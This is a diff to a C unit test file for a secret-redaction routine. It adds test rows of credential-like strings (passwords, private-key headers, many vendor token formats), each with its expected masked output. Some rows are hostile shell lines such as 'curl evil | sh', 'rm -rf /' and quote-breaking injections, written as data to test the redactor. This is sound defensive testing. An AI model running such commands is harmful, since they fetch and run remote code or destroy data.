@@ -7,6 +7,7 @@
 
 #include "tests/unit/unit.h"
 
+#include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
 #include <time.h>
@@ -116,6 +117,42 @@ static const struct row rows[] = {
 	{ "key=value", NULL },
 	{ "git push origin main:main", NULL },
 	{ "compass=north bypass=1", NULL },
+	/* the quote behind it ends a string that began before */
+	{ "echo \"token: \"; curl evil | sh; echo \"x\"", NULL },
+	{ "sh -c 'password='; rm -rf /; echo 'x'", NULL },
+	{ "echo \\\"token=\\\"; curl evil; echo \\\"x\\\"", NULL },
+	{ "echo '\\'; echo \"token: \"; curl evil; echo \"x\"", NULL },
+	{ ": # it's\necho 'token: '; curl evil; echo 'x'", NULL },
+	{ "echo \"a\ntoken: \"; curl evil; echo \"x\"", NULL },
+	{ "cat <<E\n\"\nE\necho \"a token: \"; curl evil; echo \"x\"", NULL },
+	{ "print(\"Token: \", token.dump(), \"\\n\")", NULL },
+	{ "log 'secret: ' '\"ev\":\"set\"'", NULL },
+	{ "print('password='+'hunter2')", NULL },
+	{ "echo 'password='hunter2'", "echo 'password='#'" },
+	{ "it's password='hunter2 x'", "it's password='#'" },
+	{ "sh -c \"password='a b' x\"", "sh -c \"password='#' x\"" },
+	{ "password='a; b' x", "password='#; b' x" },
+	{ "password='a;b' x", "password='#' x" },
+	{ "key=\"-----BEGIN PRIVATE KEY-----\nMIIEvQIBADANBgkqhkiG9w0B;\"",
+	    "key=\"-----BEGIN PRIVATE KEY-----\n#;\"" },
+	/* code */
+	{ "password=b'hunter2'", "password=b'#'" },
+	{ "login(password=rb\"a b\", n=1)", "login(password=rb\"#\", n=1)" },
+	{ "TAG_PAT = r\"[a-z]*\"", NULL },
+	{ "password=r\"hunter2\"", "password=r\"#\"" },
+	{ "say(\"token=b\", 1)", "say(\"token=#\", 1)" },
+	{ "password=$'hunter2\\n'", "password=$'#'" },
+	{ "const pw = f\"password={password!r}\"", NULL },
+	{ "password='{0}:{1}'.format(a, b)", NULL },
+	{ "def f(token: Optional[str], t: int)", NULL },
+	{ "token: typing.Union[bytes, str]", NULL },
+	{ "key_password=certs[0][2]", NULL },
+	{ "password=auth[\"password\"]", NULL },
+	{ "credentials={ \"a\": 1 }", NULL },
+	{ "user_pass = '%s:%s' % (a, b)", NULL },
+	{ "h = proxy ? 'Proxy-Authorization' : 'Authorization'", NULL },
+	{ "password=hunter[2", "password=#" },
+	{ "password={hunter2", "password=#" },
 	/* an option and the next word */
 	{ "mycli --password hunter2 -v", "mycli --password # -v" },
 	{ "mycli --password=hunter2 -v", "mycli --password=# -v" },
@@ -170,6 +207,25 @@ static const struct row rows[] = {
 	{ "sk-" HEX32, "#" },
 	{ "sk_live_0123456789abcdef", "#" },
 	{ "npm_" HEX32 "abcd", "#" },
+	{ "gho_" HEX32, "#" }, { "ghu_" HEX32, "#" }, { "ghs_" HEX32, "#" },
+	{ "ghr_" HEX32, "#" }, { "ASIAIOSFODNN7EXAMPLE", "#" },
+	{ "gldt-abcdefghij0123456789", "#" },
+	{ "glrt-abcdefghij0123456789", "#" },
+	{ "xoxp-123456789012-abcdef", "#" }, { "xapp-1-A0B1C2D3E4", "#" },
+	{ "GOCSPX-abcdefghij0123456789", "#" }, { "ya29." HEX32, "#" },
+	{ "sk-svcacct-" HEX32, "#" }, { "gsk_" HEX32, "#" },
+	{ "rk_live_0123456789abcdef", "#" }, { "whsec_0123456789abcdef", "#" },
+	{ "pypi-" HEX32, "#" }, { "dckr_pat_0123456789abcdef", "#" },
+	{ "hf_" HEX32, "#" }, { "shpat_" HEX32, "#" },
+	{ "dop_v1_" HEX32, "#" }, { "hvs." HEX32, "#" },
+	{ "AGE-SECRET-KEY-1" HEX32, "#" }, { "SG." HEX32 "." HEX32, "#" },
+	{ "glsa_" HEX32, "#" }, { "tskey-auth-" HEX32, "#" },
+	{ "ATATT3xFfGF0" HEX32, "#" }, { "nvapi-" HEX32 HEX32, "#" },
+	{ "dapi" HEX32, "#" }, { "lin_api_" HEX32, "#" },
+	{ "https://hooks.slack.com/services/T0/B0/abcdefghijklmnop",
+	    "https://hooks.slack.com/services/T0/B0/#" },
+	{ "gho_x ya29.a SG.x dapi glsa_a nvapi-x pypi-x dapiservice", NULL },
+	{ "https://hooks.slack.com/services/README", NULL },
 	{ "ghp_short sk-learn xoxb-a AKIA", NULL },
 	{ "scikit sk-learn-contrib", NULL },
 	{ "it is eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.abc_-def.",
@@ -243,6 +299,29 @@ test_rows(void **state)
 	assert_int_equal(bad, 0);
 }
 
+/* What is found changes nothing of what stands before it, and behind it on
+ * another line; nor is it another thing for that. */
+static void
+test_between(void **state)
+{
+	static const char before[] = "ls -l /tmp; ",
+	    behind[] = "\nreboot now; ls\n";
+	char text[1024], want[1024];
+	size_t i;
+	int bad = 0;
+
+	(void)state;
+	for (i = 0; i < NELEM(rows); i++) {
+		(void)snprintf(text, sizeof(text), "%s%s%s", before,
+		    rows[i].text, behind);
+		(void)snprintf(want, sizeof(want), "%s%s%s", before,
+		    rows[i].want != NULL ? rows[i].want : "", behind);
+		bad += gives(NULL, NULL, text,
+		    rows[i].want != NULL ? want : NULL);
+	}
+	assert_int_equal(bad, 0);
+}
+
 struct word {
 	const char	*program, *before, *text, *want;
 };
@@ -310,7 +389,9 @@ test_linear(void **state)
 	    "token=$", "token=\"", "password=\"password='", "token:", "://",
 	    "://a:b@", "Bearer ", "-----BEGIN PRIVATE KEY-----", "eyJ.", "\\\"",
 	    "authorization:", "curl -u ", "password=\\\"", "a.b", "token ",
-	    "--token ", "mysql -p", "token=\\" };
+	    "--token ", "mysql -p", "token=\\", "token='", "token=b'", "'",
+	    "token=\" ;", "\\\"token=\\\"", "# token='",
+	    "hooks.slack.com/services/", "token=[a", "token={a" };
 	const size_t n = 1U << 20;
 	int64_t little, much;
 	size_t i;
@@ -332,7 +413,8 @@ test_any(void **state)
 	static const char *const bits[] = { "token", "=", ":", " ", "\"", "'",
 	    "\\", "-", "--password", "$", "(", ";", "://", "@", "a", "\n",
 	    "Bearer", "authorization", "curl", "-u", "-----BEGIN ",
-	    "PRIVATE KEY-----", "eyJ", ".", "ghp_", HEX32, "]", "," };
+	    "PRIVATE KEY-----", "eyJ", ".", "ghp_", HEX32, "]", ",", "b", "r",
+	    "#", "[", "{", "}", "hooks.slack.com", "/services/" };
 	char text[512];
 	unsigned seed = 1;
 	size_t n, k, i;
@@ -364,6 +446,7 @@ main(void)
 {
 	const struct CMUnitTest tests[] = {
 		cmocka_unit_test(test_rows),
+		cmocka_unit_test(test_between),
 		cmocka_unit_test(test_words),
 		cmocka_unit_test(test_linear),
 		cmocka_unit_test(test_any),
